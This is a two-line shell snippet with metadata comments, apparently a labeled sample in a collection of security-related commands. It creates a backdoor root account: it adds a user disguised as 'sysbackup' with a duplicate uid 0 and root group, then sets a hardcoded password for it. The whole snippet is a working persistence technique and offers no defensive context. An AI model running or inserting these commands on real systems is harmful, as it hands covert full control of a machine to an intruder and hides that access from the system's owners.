# description: Creates a second root account with a duplicate uid 0 and sets its password.
# family: security
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbackup
echo 'sysbackup:Winter2024!' | chpasswd
